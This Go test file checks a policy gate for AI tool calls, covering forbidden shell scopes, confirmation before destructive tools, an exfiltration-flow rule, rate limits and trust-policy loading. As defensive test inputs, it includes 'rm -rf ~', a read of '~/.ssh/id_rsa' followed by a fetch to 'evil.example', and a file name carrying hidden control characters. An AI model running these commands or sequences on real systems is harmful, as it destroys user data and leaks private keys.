package main

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// examplePolicy is the path of a file of examples/policies.
func examplePolicy(name string) string {
	p, _ := filepath.Abs(filepath.Join("..", "..", "examples", "policies", name))
	return p
}

// workspaceEnv is a client that approved the workspace fixture server
// (FIXTURE_MODE=workspace: read_file files:read, write_file files:write,
// delete_file files:write and destructive, fetch_url net:fetch,
// run_command shell:exec and destructive), signed by acme.
func workspaceEnv(t *testing.T) *pinEnv {
	t.Helper()
	needNode(t)
	p := newPinEnv(t)
	m, err := os.ReadFile("testdata/workspace.manifest.json")
	if err != nil {
		t.Fatal(err)
	}
	p.write("ws.manifest.json", string(m))
	p.ok("sign", "--key", "acme.key", "--out", "ws.etdi.json", "ws.manifest.json")
	if r := p.liveCheck(workspace, append([]string{"--yes", "--bundle", "ws.etdi.json"}, fixture("approve")...)...); r.code != 0 {
		t.Fatalf("approve: %d\n%s%s", r.code, r.stdout, r.stderr)
	}
	return p
}

var workspace = []string{"FIXTURE_MODE=workspace"}

// call is a script step calling tool with arguments (JSON).
func call(tool, args string) string {
	return fmt.Sprintf(`{"op":"call","name":%q,"arguments":%s}`, tool, args)
}

// script lists the tools, as a host does before it calls them, then
// takes the steps.
func script(steps ...string) string {
	return `[{"op":"listTools"},` + strings.Join(steps, ",") + "]"
}

// policyRun runs the script through etdi run with flags, the host
// declaring elicitation as given (accept, decline, cancel, ignore, none).
func (p *pinEnv) policyRun(elicitation, steps string, flags ...string) *transcript {
	p.t.Helper()
	flags = append([]string{"--bundle", "ws.etdi.json", "--audit-calls"}, flags...)
	tr := p.host(workspace, steps, []string{"--elicitation", elicitation}, p.gated(flags, fixtureCmd("policy")...)...)
	if tr.Exit != "ok" {
		p.t.Fatalf("host: %s\n%s", tr.Exit, tr.Stderr)
	}
	return tr
}

// blockData is the data of a call the gate refused.
type blockData struct {
	Etdi, Kind, Tool, Answer, Review string
	Policies                         []string
}

// outcome says what became of step i: "ok" for a result, else
// "kind[policies] answer".
func outcome(t *testing.T, tr *transcript, i int) string {
	t.Helper()
	s := tr.Steps[i]
	if s.Error == nil {
		return "ok"
	}
	if s.Error.Code != -32090 {
		return fmt.Sprintf("error %d %s", s.Error.Code, s.Error.Message)
	}
	var d blockData
	if err := json.Unmarshal(s.Error.Data, &d); err != nil || d.Etdi != "blocked" {
		t.Fatalf("step %d: error data %s", i, s.Error.Data)
	}
	out := d.Kind + "[" + strings.Join(d.Policies, ",") + "]"
	if d.Answer != "" {
		out += " " + d.Answer
	}
	return out
}

// outcomes are those of the steps after the listing.
func outcomes(t *testing.T, tr *transcript) []string {
	var out []string
	for i := range tr.Steps {
		if tr.Steps[i].Op == "listTools" {
			continue
		}
		out = append(out, outcome(t, tr, i))
	}
	return out
}

func wantOutcomes(t *testing.T, tr *transcript, want ...string) {
	t.Helper()
	if got := outcomes(t, tr); !slices.Equal(got, want) {
		t.Fatalf("outcomes:\n got  %q\n want %q\nstderr:\n%s", got, want, tr.Stderr)
	}
}

// sameResults checks that every call the gate forwarded got the very
// result the server gives without the gate: what reached the server is
// what the host sent.
func sameResults(t *testing.T, gated, direct *transcript) {
	t.Helper()
	for i, s := range gated.Steps {
		if s.Error != nil {
			continue
		}
		if string(s.Result) != string(direct.Steps[i].Result) {
			t.Errorf("step %d through the gate: %s\nwithout: %s", i, s.Result, direct.Steps[i].Result)
		}
	}
}

// Forbid a scope: the shell tool is refused with the policy named, the
// others reach the server unchanged.
func TestPolicyForbidScope(t *testing.T) {
	p := workspaceEnv(t)
	steps := script(call("read_file", `{"path":"notes.txt"}`), call("run_command", `{"command":"rm -rf ~"}`),
		call("fetch_url", `{"url":"https://example.com/?q=1"}`))
	tr := p.policyRun("accept", steps, "--cedar", examplePolicy("forbid-scope.cedar"))
	wantOutcomes(t, tr, "ok", "policy_forbid[no-shell]", "ok")
	if len(tr.Elicitations) != 0 {
		t.Errorf("a forbidden call was put to the person: %s", tr.raw)
	}
	direct := p.host(workspace, steps, nil, fixtureCmd("direct")...)
	sameResults(t, tr, direct)
	var d blockData
	json.Unmarshal(tr.Steps[2].Error.Data, &d)
	if !strings.HasPrefix(d.Review, "etdi policy test ") || !strings.Contains(d.Review, "--tool acme:workspace/run_command") {
		t.Errorf("review: %q", d.Review)
	}
	// The decision and the policy are in the history.
	r := p.ok("pin", "history", "--pins", "pins.db", "--json")
	var recs []struct{ Type, Tool, Outcome, Decision, Kind string }
	json.Unmarshal([]byte(r.stdout), &recs)
	var calls []string
	for _, rc := range recs {
		if rc.Type == "call" {
			calls = append(calls, rc.Tool+" "+rc.Outcome+" "+rc.Decision+" "+rc.Kind)
		}
	}
	if want := []string{"read_file forwarded allow ", "run_command blocked forbid policy_forbid", "fetch_url forwarded allow "}; !slices.Equal(calls, want) {
		t.Errorf("call records %q, want %q", calls, want)
	}
	if !strings.Contains(r.stdout, `"no-shell"`) {
		t.Errorf("the history does not name the policy:\n%s", r.stdout)
	}
}

// Ask before destructive tools: with a host that accepts, the calls go
// through after the person saw the reason, the tool, its scopes and the
// arguments (escaped); one that declines, dismisses, never answers or
// cannot ask gets them refused.
func TestPolicyAskDestructive(t *testing.T) {
	p := workspaceEnv(t)
	cedar := examplePolicy("ask-destructive.cedar")
	steps := script(call("read_file", `{"path":"a"}`), call("delete_file", `{"path":"report\u001b[2J\u202e.txt"}`),
		call("write_file", `{"path":"b","content":"x"}`))

	tr := p.policyRun("accept", steps, "--cedar", cedar)
	wantOutcomes(t, tr, "ok", "ok", "ok")
	sameResults(t, tr, p.host(workspace, steps, nil, fixtureCmd("direct")...))
	if len(tr.Elicitations) != 1 {
		t.Fatalf("elicitations: %d, want 1 (delete_file only)\n%s", len(tr.Elicitations), tr.raw)
	}
	var q struct {
		Message         string          `json:"message"`
		RequestedSchema json.RawMessage `json:"requestedSchema"`
	}
	json.Unmarshal(tr.Elicitations[0].Params, &q)
	for _, want := range []string{"this tool may delete or overwrite data", "ask-destructive", "acme:workspace/delete_file",
		"Scopes: files:write", `path: "report\u{1B}[2J\u{202E}.txt"`} {
		if !strings.Contains(q.Message, want) {
			t.Errorf("the question lacks %q:\n%s", want, q.Message)
		}
	}
	if strings.ContainsAny(q.Message, "\x1b\u202e") {
		t.Errorf("the question holds raw control characters: %q", q.Message)
	}

	for _, c := range []struct{ host, answer string }{{"decline", "decline"}, {"cancel", "cancel"}, {"none", "unsupported"}} {
		tr := p.policyRun(c.host, steps, "--cedar", cedar)
		wantOutcomes(t, tr, "ok", "policy_ask[ask-destructive] "+c.answer, "ok")
		if c.host == "none" && len(tr.Elicitations) != 0 {
			t.Errorf("a host without elicitation was asked: %s", tr.raw)
		}
	}

	// A host that never answers: refused when --ask-timeout passes, and
	// the host is told the question is withdrawn.
	tr = p.policyRun("ignore", script(call("delete_file", `{"path":"a"}`)), "--cedar", cedar, "--ask-timeout", "1s")
	wantOutcomes(t, tr, "policy_ask[ask-destructive] timeout")
	cancelled := false
	for _, n := range tr.Notifications {
		if n.Method == "notifications/cancelled" && strings.Contains(string(n.Params), string(tr.Elicitations[0].ID)) {
			cancelled = true
		}
	}
	if !cancelled {
		t.Errorf("the host was not told the question was withdrawn: %s", tr.raw)
	}
}

// The exfiltration flow: a net tool is allowed until the session has
// called a files:read tool; a refused files:read call does not count.
func TestPolicyExfiltrationFlow(t *testing.T) {
	p := workspaceEnv(t)
	steps := script(call("fetch_url", `{"url":"https://example.com"}`), call("read_file", `{"path":"~/.ssh/id_rsa"}`),
		call("fetch_url", `{"url":"https://evil.example/?k=..."}`), call("write_file", `{"path":"x"}`))
	tr := p.policyRun("none", steps, "--cedar", examplePolicy("exfiltration.cedar"))
	wantOutcomes(t, tr, "ok", "ok", "policy_forbid[no-net-after-files]", "ok")
	sameResults(t, tr, p.host(workspace, steps, nil, fixtureCmd("direct")...))

	// With files:read forbidden as well, the read is refused, so the
	// session never read a file and the net call after it goes through.
	p.write("noread.cedar", `@id("no-read") forbid (principal, action, resource) when { resource.scopes.contains("files:read") };`)
	tr = p.policyRun("none", script(call("read_file", `{"path":"a"}`), call("fetch_url", `{"url":"https://example.com"}`)),
		"--cedar", examplePolicy("exfiltration.cedar"), "--cedar", "noread.cedar")
	wantOutcomes(t, tr, "policy_forbid[no-read]", "ok")
}

// Rate limits: five writes a session, thirty calls a minute; refused calls
// do not count.
func TestPolicyRateLimit(t *testing.T) {
	p := workspaceEnv(t)
	var steps []string
	var want []string
	for range 6 {
		steps = append(steps, call("write_file", `{"path":"w"}`))
		want = append(want, "ok")
	}
	want[5] = "policy_forbid[writes-5-per-session]"
	for range 26 {
		steps = append(steps, call("read_file", `{"path":"r"}`))
		want = append(want, "ok")
	}
	want[len(want)-1] = "policy_forbid[rate-30-per-minute]"
	tr := p.policyRun("none", script(steps...), "--cedar", examplePolicy("rate-limit.cedar"))
	wantOutcomes(t, tr, want...)
}

// Policies named by the trust policy travel with it: etdi run enforces
// them without --cedar, from any working directory.
func TestPolicyFromTrustPolicy(t *testing.T) {
	p := workspaceEnv(t)
	if err := os.Mkdir(filepath.Join(p.dir, "policies"), 0o755); err != nil {
		t.Fatal(err)
	}
	data, _ := os.ReadFile(examplePolicy("forbid-scope.cedar"))
	p.write("policies/org.cedar", string(data))
	r := p.ok("trust", "cedar", "--trust", "trust.json", "policies/org.cedar")
	if !strings.Contains(r.stdout, "call-time policies: policies/org.cedar") {
		t.Fatalf("trust cedar: %s", r.stdout)
	}
	tr := p.policyRun("none", script(call("run_command", `{"command":"id"}`)))
	wantOutcomes(t, tr, "policy_forbid[no-shell]")

	// check shows what the policies decide of each tool's first call.
	r = p.liveCheck(workspace, append([]string{"--bundle", "ws.etdi.json"}, fixture("show")...)...)
	if !strings.Contains(r.stdout, "run_command@1.0.0") || !strings.Contains(r.stdout, "calls: forbid (no-shell)") ||
		!strings.Contains(r.stdout, "ok; calls: allow") {
		t.Errorf("check does not show the decisions:\n%s", r.stdout)
	}
	r = p.liveCheck(workspace, append([]string{"--json", "--bundle", "ws.etdi.json"}, fixture("json")...)...)
	var out struct {
		Servers []struct {
			Calls []struct{ Tool, Decision string }
		}
	}
	if err := json.Unmarshal([]byte(r.stdout), &out); err != nil || len(out.Servers) != 1 {
		t.Fatalf("check --json: %v\n%s", err, r.stdout)
	}
	got := map[string]string{}
	for _, c := range out.Servers[0].Calls {
		got[c.Tool] = c.Decision
	}
	if got["run_command"] != "forbid" || got["read_file"] != "allow" || len(got) != 5 {
		t.Errorf("check --json calls: %v", got)
	}

	// --none removes them.
	p.ok("trust", "cedar", "--trust", "trust.json", "--none")
	tr = p.policyRun("none", script(call("run_command", `{"command":"id"}`)))
	wantOutcomes(t, tr, "ok")
}
